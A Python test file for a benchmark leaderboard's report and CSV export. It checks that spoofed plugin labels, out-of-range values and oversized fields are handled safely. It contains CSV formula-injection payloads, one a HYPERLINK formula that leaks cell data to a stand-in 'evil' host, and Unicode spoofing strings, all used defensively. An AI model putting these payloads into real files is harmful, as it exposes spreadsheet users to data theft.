"""Odd, broken and forged records: each is one row that says what is wrong with it, never good news
and never everybody's board.
"""

from __future__ import annotations

import csv
import dataclasses
import errno
import io
import json
from collections.abc import Callable
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from bench.errors import UserError
from bench.measurements import image_quality
from bench.record import Flag, Metric, PluginSpec, Record, Run
from leaderboard import export, report
from leaderboard.board import boards
from leaderboard.labels import label
from leaderboard.matrix import matrices
from leaderboard.ranking import rankings
from leaderboard.report import build, render
from leaderboard.sound import display, sound, visible


def record(defense: str = "d", rate: float = 0.1, seed: int = 0, **changes: object) -> Record:
    plain = Record(
        testbed=PluginSpec(name="t"), attack=PluginSpec(name="a"), defense=PluginSpec(name=defense),
        seed=seed, status="ok",
        kind="control" if defense == "none" else "sampler", protocol="p",
        metrics={"asr[noise]": Metric(value=rate, n=64, higher_is_better=False)},
    )  # fmt: skip
    return dataclasses.replace(plain, **changes)  # type: ignore[arg-type]


def run(*records: Record) -> Run:
    return Run(
        suite="s", description="", started="2026-01-01T00:00:00+00:00",
        finished="2026-01-01T01:00:00+00:00", counts={},
        records=[(Path("/nowhere"), one) for one in records],
    )  # fmt: skip


CONTROL = [record("none", 0.9, seed) for seed in range(3)]


def heads(*records: Record) -> list[str]:
    (board,) = boards([run(*records)])
    return [label(column) for column, _ in board.columns]


@pytest.mark.parametrize(
    ("name", "label_text", "expected"),
    [
        ("clip_xt", "", "clip_xt"),
        ("finetune", "finetune(steps=200)", "finetune(steps=200)"),
        ("digits_ddpm", "digits-ddpm", "digits-ddpm"),
        ("mine", "clip_xt", "mine (calls itself “clip_xt”)"),
        ("mine", "none", "mine (calls itself “none”)"),
        ("mine", "cl\u0456p_xt", "mine (calls itself “cl\\u0456p_xt”)"),
        ("cl\u0456p_xt", "cl\u0456p_xt", "cl\\u0456p_xt"),
        ("mine", "mine(\u202etx_pilc)", "mine(\\u202etx_pilc)"),
        ("mine", "mine\u200b(a=1)", "mine (calls itself “mine\\u200b(a=1)”)"),
        ("mine", "mine(\x1b[31mred)", "mine(\\x1b[31mred)"),
        ("café", "café(a=1)", "caf\\xe9 (calls itself “caf\\xe9(a=1)”)"),
        ("mine", "mine(word=château)", "mine(word=château)"),
        ("mine", "mine\n\n(a=1)", "mine (a=1)"),
    ],
)
def test_a_plugin_is_shown_under_its_own_name(name: str, label_text: str, expected: str) -> None:
    """Whatever it calls itself: a column that reads like another's would be believed for it."""
    assert display(PluginSpec(name=name, label=label_text)) == expected


@given(st.text(max_size=40), st.sampled_from(["clip_xt", "none", "finetune"]))
def test_no_label_makes_a_plugin_look_like_another(text: str, other: str) -> None:
    """For any text: it begins with the plugin's own name, and holds nothing that a reader cannot
    see.
    """
    displayed = display(PluginSpec(name="mine", label=text))
    assert (
        displayed.lower().replace("-", "_").startswith("mine")
        and not displayed.startswith(other)
        and len(displayed) <= 160
    )
    assert displayed.isprintable()


def test_a_detector_called_none_is_not_the_control() -> None:
    """It would merge with the control's column, or lend it its numbers."""
    forged = [record("none", 0.0, seed, kind="noise detector") for seed in range(3)]
    assert heads(*CONTROL, *forged) == ["none", "none [noise detector]"]
    (board,) = boards([run(*CONTROL, *forged)])
    control = next(cell for cell in board.cells.values() if cell.kind == "control")
    assert set(control.values("asr[noise]").values()) == {0.9}


@pytest.mark.parametrize("value", [-5.0, -0.01, 1.01, 1e300])
def test_a_rate_outside_its_range_is_no_number_and_never_the_best(value: float) -> None:
    """An ASR of -5 must not win; it counts as a failed seed, and the cell says what stood there."""
    odd = [record("odd", value, seed) for seed in range(3)]
    good = [record("good", 0.1, seed) for seed in range(3)]
    (board,) = boards([run(*CONTROL, *good, *odd)])
    (ranking,) = rankings(board)
    assert [label(line.cell.defense) for line in ranking.holders()] == ["good"]
    line = next(line for line in ranking.lines if label(line.cell.defense) == "odd")
    assert (
        line.rank == ""
        and line.worst.mean == 1
        and any("outside its range" in flag for flag in line.flags)
    )
    table = next(table for table in matrices(board) if table.words.name == "asr[noise]")
    cells = {label(cell.cell.defense): cell for cell in table.rows[0][1] if cell.cell}
    assert cells["odd"].text == "–" and cells["odd"].step is None
    assert "outside its range at" in render([run(*CONTROL, *odd)])


def test_a_direction_turned_round_does_not_turn_the_colours() -> None:
    """High ASR in blue would read as a success of the defense."""
    turned = {"asr[noise]": Metric(value=0.95, n=64, higher_is_better=True)}
    (board,) = boards([run(record("none", metrics=turned), record("d", metrics=turned))])
    table = next(table for table in matrices(board) if table.words.name == "asr[noise]")
    assert (
        table.direction == "Lower is better for the defender."
        and (table.rows[0][1][0].step or 0) <= 1
    )
    assert any(flag.code == "direction-reversed" for flag in sound(record(metrics=turned)).flags)


def test_an_unknown_status_is_a_failure() -> None:
    """`great` must not vanish from both counts, nor lend its numbers to a mean."""
    great = [record("d", 0.0, seed, status="great") for seed in range(3)]
    (board,) = boards([run(*CONTROL, *great)])
    cell = next(cell for cell in board.cells.values() if cell.defense.name == "d")
    assert len(cell.with_status("failed")) == 3 and cell.values("asr[noise]") == {}
    page = render([run(*CONTROL, *great)])
    assert "3 failed" in page and "unknown status &#39;great&#39;" in page


def test_a_reason_is_cut_and_stands_in_a_page_a_few_times_only(tmp_path: Path) -> None:
    """Thirty megabytes in each of forty tables made a page of two gigabytes."""
    long = record(
        "d", status="failed", metrics={}, reason="boom " * 200_000, trace="line\n" * 200_000
    )
    many = {f"metric_{index}": Metric(value=0.5) for index in range(30)}
    page = render([run(record("none", metrics=many), long)])
    assert len(page) < 200_000 and page.count("boom boom boom") <= 300
    short = render(
        [
            run(
                record("none", metrics=many),
                record("d", status="failed", metrics={}, reason="out of luck"),
            )
        ]
    )
    assert short.count("out of luck") == 4, (
        "in the cell's panel, in the list of failures, on both methods' pages"
    )


def test_thousands_of_unknown_metrics_and_long_parameters_do_not_fill_the_page() -> None:
    """They are in the files beside it."""
    metrics = {f"m{index:04d}": Metric(value=0.5) for index in range(3000)}
    vast = PluginSpec(name="d", params={"numbers": list(range(100_000))})
    one = dataclasses.replace(record("d", metrics=metrics), defense=vast)
    page = render([run(record("none", 0.9), one)])
    assert len(page) < 500_000 and "metrics of unknown names stand in the CSV alone" in page
    frame = pd.read_csv(io.StringIO(export.to_csv([run(one)])))
    assert len(frame) == 3000 and frame["defense_params"].str.len().max() < 100


def test_letters_without_utf8_do_not_take_the_board(
    tmp_path: Path, make_store: Callable[..., Path]
) -> None:
    """An error that names a file in another encoding is an honest error."""
    odd = "cannot read caf\udce9.txt"
    store = make_store(
        tmp_path / "store",
        lambda one: dataclasses.replace(one, reason=odd) if one.status == "failed" else one,
        suite="digits",
    )
    path = build(store, tmp_path / "board.html")
    assert "caf\\udce9.txt" in path.read_text(encoding="utf-8")
    assert "caf\\udce9.txt" in path.with_suffix(".csv").read_text(encoding="utf-8")
    json.loads(path.with_suffix(".json").read_text(encoding="utf-8"))
    assert "caf\\udce9.txt" in render([run(record("d", status="failed", metrics={}, reason=odd))])


FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1+1",
)


def test_no_column_of_a_semicolon_is_a_formula() -> None:
    """Where the decimal sign is a comma, a spreadsheet separates columns by semicolons."""
    one = record("d", status="failed", metrics={}, reason='x;=HYPERLINK("http://evil","ok"); -1')
    text = export.to_csv([run(one)])
    (row,) = csv.DictReader(io.StringIO(text, newline=""))
    assert row["reason"] == 'x;\'=HYPERLINK("http://evil","ok"); -1'
    quoted = export.to_csv([run(record("d", status="failed", metrics={}, reason='x;"=1+1'))])
    cells = [cell for row in csv.reader(io.StringIO(quoted), delimiter=";") for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))]


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_text_in_the_csv_is_a_formula(formula: str) -> None:
    """A spreadsheet would run it on the machine of whoever opens the file; numbers stay numbers,
    the minus sign too.
    """
    spec = PluginSpec(name=formula, label=formula, params={formula: formula})
    one = record(
        "d", metrics={formula: Metric(value=-1.5, unit=formula)}, protocol=formula, reason=formula,
        flags=(Flag("odd", "", formula),),
        kind=formula, status=formula,
    )  # fmt: skip
    one = dataclasses.replace(one, attack=spec, defense=spec, testbed=spec, probe=spec)
    text = export.to_csv([dataclasses.replace(run(one), suite=formula)])
    (row,) = csv.DictReader(io.StringIO(text, newline=""))
    numeric = {"value", "ci_low", "ci_high", "n", "seed"}
    texts = {name: text for name, text in row.items() if name not in numeric}
    assert not [
        name
        for name, text in texts.items()
        if text.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝"))
    ]
    assert row["value"] == "-1.5"
    wanted = f"'{formula}" if formula[0] != "\r" else "\\r=1"
    assert all(
        texts[name] == wanted
        for name in ("suite", "attack", "defense", "protocol", "metric", "reason", "unit")
    )


def test_a_full_disk_leaves_the_old_board_whole(
    tmp_path: Path, store: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Half a page in place of a good one is worse than an error."""
    path = build(store, tmp_path / "board.html")
    before = {file.name: file.read_bytes() for file in tmp_path.iterdir()}
    written = Path.write_bytes

    def full(self: Path, data: bytes) -> int:
        if ".json" in self.name:
            written(self, data[:100])
            raise OSError(errno.ENOSPC, "No space left on device")
        return written(self, data[: len(data) // 2])

    monkeypatch.setattr(Path, "write_bytes", full)
    with pytest.raises(UserError, match="cannot write the board to .*: No space left on device"):
        build(store, path)
    assert {file.name: file.read_bytes() for file in tmp_path.iterdir()} == before


def test_a_reader_never_sees_half_a_board(
    tmp_path: Path, store: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Each file changes by one rename, after all of them are written."""
    path = build(store, tmp_path / "board.html")
    renamed = []
    replace = report.os.replace

    def watched(source: Path, target: Path) -> None:
        assert path.read_bytes().endswith(b"</html>\n") or path.read_bytes().endswith(b"</html>")
        renamed.append(Path(target).name)
        replace(source, target)

    monkeypatch.setattr(report.os, "replace", watched)
    build(store, path)
    assert sorted(renamed) == ["board.csv", "board.html", "board.json"]


def test_one_bad_column_does_not_make_all_others_look_alike() -> None:
    """FID's colours run from 0 to twice no defense's, so that a FID of 60 leaves 1.1 and 1.9
    apart.
    """

    def fid(name: str, value: float) -> Record:
        return record(name, metrics={"fid[x]": Metric(value=value, higher_is_better=False)})

    few = (fid("none", 1.0), fid("near", 1.1), fid("far", 1.9))
    steps = []
    for cells in (few, (*few, fid("awful", 60.0))):
        declared = dataclasses.replace(run(*cells), metrics=image_quality.MEASUREMENT.metrics)
        (board,) = boards([declared])
        (table,) = matrices(board)
        steps.append(
            {label(cell.cell.defense): cell.step for cell in table.rows[0][1] if cell.cell}
        )
    assert {name: steps[1][name] for name in steps[0]} == steps[0]
    assert (
        steps[1]["awful"] == 0
        and steps[1]["none"] == 5
        and steps[1]["far"] is not None
        and steps[1]["far"] <= 1
    )


def test_a_heap_of_marks_is_spelled_out() -> None:
    """It was drawn over the ranks above and below; writing that needs some keeps them."""
    assert visible("a" + "\u0301" * 9) == "a" + "\u0301" * 5 + "\\u0301" * 4
    assert visible("क्षि ạ̈ é") == "क्षि ạ̈ é"
